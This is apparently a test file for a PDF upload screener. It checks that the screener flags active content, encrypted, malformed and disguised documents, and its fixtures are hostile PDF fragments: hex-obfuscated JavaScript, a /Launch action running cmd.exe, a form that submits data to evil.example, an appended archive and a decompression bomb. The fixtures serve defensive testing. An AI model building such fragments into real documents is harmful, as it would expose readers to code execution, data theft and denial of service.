import { expect, it } from "vitest";
import { packed, pdf } from "../pictures.fixtures";
import { documentRefusal } from "./document";

const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const unpackable = "<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\nnot packed\nendstream";
const zip = Buffer.concat([
  Buffer.from("PK\u0003\u0004 a file of an archive"),
  Buffer.from("PK\u0005\u0006", "latin1"),
  Buffer.alloc(18),
]);

it.each<[string, Buffer, ReturnType<typeof documentRefusal>]>([
  ["an empty page", pdf(), null],
  ["an ordinary packed object", pdf(packed("<< /Title (Budget) >>")), null],
  ["a page that speaks of programs", pdf("<< /Title (JavaScript and Launch) >>"), null],
  ["an address to go to", pdf("<< /S /URI /URI (https://konak.example) >>"), null],
  ["a picture that looks like a program by chance", pdf("<< /Length 6 >>\nstream\n/JS 1 \nendstream"), null],
  ["JavaScript", pdf(script), "active"],
  ["JavaScript spelt otherwise", pdf("<< /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>"), "active"],
  ["JavaScript by its source alone", pdf("<< /JS 5 0 R >>"), "active"],
  ["packed JavaScript", pdf(packed(script)), "active"],
  ["JavaScript behind what looks like a stream", pdf(`<< /Length 0 >>\nstream\n${script}`), "active"],
  ["a program to start", pdf("<< /S /Launch /F (cmd.exe) >>"), "active"],
  ["an attachment", pdf("<< /Names << /EmbeddedFiles 5 0 R >> >>"), "active"],
  ["a form that sends data", pdf("<< /S /SubmitForm /F (https://evil.example) >>"), "active"],
  ["a form of another language", pdf("<< /XFA 5 0 R >>"), "active"],
  ["a password", pdf("<< /Filter /Standard /Encrypt 5 0 R >>"), "locked"],
  ["more packs of objects than can be looked through", pdf(...Array(5001).fill(packed("<< >>"))), "damaged"],
  ["packed objects that are none", pdf(unpackable), "damaged"],
  ["packed objects in a riddle", pdf(packed(script, "/DecodeParms << /Predictor 12 >>")), "damaged"],
  ["a cut end", pdf().subarray(0, -40), "damaged"],
  ["no objects", Buffer.from("%PDF-1.7\n%%EOF\n"), "damaged"],
  ["an archive behind it", Buffer.concat([pdf(), zip]), "twoInOne"],
  ["something before it", Buffer.concat([Buffer.from("<html>"), pdf()]), "otherType"],
])("judges a document with %s", (_, bytes, refusal) => {
  expect(documentRefusal(bytes)).toBe(refusal);
});

it("unpacks no more than it can hold", () => {
  const bomb = packed(" ".repeat(30 * 1024 * 1024));
  expect(bomb.length).toBeLessThan(50_000);
  expect(documentRefusal(pdf(bomb))).toBe(null);
  expect(documentRefusal(pdf(bomb, bomb, bomb))).toBe("damaged");
});

it.each([
  ["noise", Buffer.from(Uint8Array.from({ length: 65_536 }, (_, i) => (i * i * 31 + i * 7) % 256))],
  ["names", Buffer.from("/a/JavaScrip/J#6".repeat(4096))],
  ["beginnings", Buffer.from(">> stream\n".repeat(6554))],
  ["spaces", Buffer.from(`>>${" ".repeat(65_000)}`)],
])("looks through a large document of %s", (_, piece) => {
  // A rule that needs more than twice the time for twice as much would not come to an end here.
  const large = Buffer.concat(Array<Buffer>(350).fill(piece));
  expect(documentRefusal(pdf(large))).not.toBe("active");
});
